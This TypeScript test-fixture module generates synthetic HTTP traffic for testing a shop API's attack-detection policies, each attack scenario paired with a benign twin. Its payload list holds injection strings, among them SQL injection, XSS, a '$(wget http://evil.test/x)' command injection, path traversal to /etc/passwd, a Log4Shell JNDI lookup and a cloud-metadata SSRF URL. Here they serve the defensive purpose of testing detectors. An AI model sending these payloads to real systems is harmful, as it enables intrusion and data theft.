import { formatTime, SECOND_US } from '../../daemon/model/time.ts'

/**
 * The recordings that the shipped policies are tested with (policies/tests/*.jsonl): an attack and a benign twin each, as
 * native transactions before redaction. Everything in them is made up.
 */

const NINE = Date.UTC(2026, 10, 20, 9) * 1000

interface Request {
  /** Microseconds after nine. */
  readonly at: number
  readonly ip: string
  readonly path: string
  readonly method?: string
  readonly status?: number
  readonly user?: string
  readonly body?: unknown
  readonly query?: string
  /** Of the answer, a page. */
  readonly page?: string
}

function line(request: Request): string {
  const { at, ip, path, method = 'GET', status = 200, user, body, query = '', page } = request
  const text = body === undefined ? '' : JSON.stringify(body)
  const headers = [
    ['host', 'api.shop.test'],
    ['user-agent', 'ShopApp/5.2'],
    ...(user === undefined ? [] : [['authorization', `Bearer ${token(user)}`]]),
    ...(body === undefined ? [] : [['content-type', 'application/json']]),
  ]
  return JSON.stringify({
    ts: formatTime(NINE + at),
    end_ts: formatTime(NINE + at + 2000),
    duration_us: 2000,
    client_ip: ip,
    server_ip: '192.0.2.10',
    server_port: 80,
    http_version: '1.1',
    method,
    scheme: 'http',
    host: 'api.shop.test',
    path,
    query,
    status,
    request_headers: headers,
    response_headers: [['content-type', page === undefined ? 'application/json' : 'text/html']],
    request_body_bytes: text.length,
    response_body_bytes: page?.length ?? (status === 200 ? 400 : 40),
    request_body: text,
    response_body: page ?? '',
    state: 'complete',
    pairing: 'exact',
  })
}

/** Nobody checks it: what is watched is traffic that a server has judged. */
function token(user: string): string {
  const part = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url')
  return `${part({ alg: 'HS256', typ: 'JWT' })}.${part({ iss: 'https://id.shop.test', sub: user })}.${'x'.repeat(43)}`
}

const range = (count: number) => Array.from({ length: count }, (_, i) => i)
const seconds = (count: number) => Math.round(count * SECOND_US)
const person = (i: number) => `198.51.100.${i + 1}`
const EVIL = '203.0.113.9'

const signIn = (at: number, ip: string, username: string, password: string, right: boolean): Request => ({
  at: seconds(at),
  ip,
  path: '/v1/login',
  method: 'POST',
  status: right ? 200 : 401,
  body: { username, password },
})

/** People who sign in, look around, and read an order or two of their own. */
function people(count: number): Request[] {
  return range(count).flatMap((i) => [
    signIn(i * 3, person(i), `person${i}@shop.test`, `right-${i}`, true),
    ...['/v1/products', '/v1/cart', `/v1/orders/${20_000 + i * 37}`].map((path, k) => ({
      at: seconds(i * 3 + k + 1),
      ip: person(i),
      path,
      user: `u_${i}`,
    })),
  ])
}

const WORDS =
  'admin backup old test dev staging private config internal debug console metrics hidden secret api2 portal upload shell db dump'.split(
    ' ',
  )

/** What a scanner asks for: several classes at several places. */
const PAYLOADS: readonly Omit<Request, 'at' | 'ip'>[] = [
  ...[
    "' OR '1'='1' -- ",
    '1 UNION SELECT username, password FROM users-- ',
    "1'; WAITFOR DELAY '0:0:5'--",
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '; cat /etc/passwd',
    '$(wget http://evil.test/x)',
    '../../../../etc/passwd',
    '${jndi:ldap://evil.test/a}',
    'http://169.254.169.254/latest/meta-data/',
  ].map(search),
  { path: '/v1/login', method: 'POST', body: { username: { $ne: null }, password: { $gt: '' } } },
]

function search(value: string): Omit<Request, 'at' | 'ip'> {
  return { path: '/v1/products', query: `q=${encodeURIComponent(value)}` }
}

const SQL_ERROR =
  '<h1>Error</h1><p>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version</p>'
const STACK =
  '<pre>Traceback (most recent call last):\n  File "/srv/app/orders.py", line 41, in show\nKeyError: total</pre>'

/** What people write that looks like an attack to whoever only matches words. */
const PROSE = [
  "O'Brien & Sons",
  'select a gift and drop it off',
  'rock and roll or jazz; cat food',
  'C:\\Users\\ada\\notes.txt',
  '1 < 2 and 3 > 2',
  'price $10 (was {15})',
  'Dear John, -- the union of students or the like',
]

export const FIXTURES: Readonly<Record<string, readonly Request[]>> = {
  // Forty different passwords at one account from one address, the last of them right.
  'guessing.jsonl': [
    ...people(8),
    ...range(40).map((i) => signIn(30 + i, EVIL, 'ada@shop.test', `guess-${i}`, i === 39)),
  ],
  // Somebody forgot a password; a script sends an old one over and over.
  'forgotten-passwords.jsonl': [
    ...people(8),
    ...range(3).map((i) => signIn(30 + i * 9, person(60), 'bob@shop.test', `maybe-${i}`, i === 2)),
    ...range(30).map((i) => signIn(40 + i * 2, person(61), 'nightly-job', 'last-year', false)),
  ],
  // One caller looks at his own order, then goes through order numbers, most of them refused.
  'order-walk.jsonl': [
    ...people(8),
    { at: seconds(27), ip: EVIL, path: '/v1/orders/31000', user: 'u_mallory' },
    ...range(50).map((i) => ({
      at: seconds(30 + i * 0.4),
      ip: EVIL,
      path: `/v1/orders/${10_000 + i}`,
      status: i % 10 === 9 ? 200 : 403,
      user: 'u_mallory',
    })),
  ],
  // One caller opens the fifty orders of his own list.
  'own-orders.jsonl': [
    ...people(8),
    ...range(50).map((i) => ({
      at: seconds(30 + i * 0.4),
      ip: person(60),
      path: `/v1/orders/${30_000 + ((i * 7919) % 4800)}`,
      user: 'u_60',
    })),
  ],
  // A word list, and at its end the file that every scanner asks for.
  'word-list.jsonl': [
    ...people(8),
    ...WORDS.map((word, i) => ({ at: seconds(30 + i), ip: EVIL, path: `/${word}`, status: 404 })),
    { at: seconds(55), ip: EVIL, path: '/.env', status: 404 },
  ],
  // A scanner tries payloads at the search and the log-in; one breaks the query, and the answer says so.
  'injection-scan.jsonl': [
    ...people(8),
    ...PAYLOADS.map((request, i) => ({ ...request, at: seconds(30 + i), ip: EVIL, status: 400 })),
    { ...search("x' AND 1=2 UNION SELECT 1,2-- "), at: seconds(52), ip: EVIL, status: 500, page: SQL_ERROR },
  ],
  // People with apostrophes, brackets and semicolons.
  'odd-but-benign.jsonl': [
    ...people(8),
    ...PROSE.flatMap((text, i) => [
      { ...search(text), at: seconds(30 + i * 2), ip: person(i) },
      {
        at: seconds(31 + i * 2),
        ip: person(i),
        path: '/v1/reviews',
        method: 'POST',
        user: `u_${i}`,
        body: { title: text, text: `${text}. I would order again.`, stars: 5 },
      },
    ]),
  ],
  // An endpoint that fails shows everybody its stack.
  'stack-traces.jsonl': [
    ...people(8),
    ...range(4).map((i) => ({
      at: seconds(30 + i * 5),
      ip: person(i),
      path: `/v1/orders/${20_000 + i * 37}`,
      user: `u_${i}`,
      status: 500,
      page: STACK,
    })),
  ],
  // Browsers ask for icons, and an old link is dead.
  'dead-links.jsonl': [
    ...people(8),
    ...range(8).flatMap((i) =>
      ['/favicon.ico', '/apple-touch-icon.png', '/v1/spring-sale'].map((path, k) => ({
        at: seconds(32 + i * 3 + k),
        ip: person(i),
        path,
        status: 404,
      })),
    ),
  ],
}

export function fixtureText(requests: readonly Request[]): string {
  const ordered = [...requests].sort((a, b) => a.at - b.at)
  return ordered.map((request) => `${line(request)}\n`).join('')
}
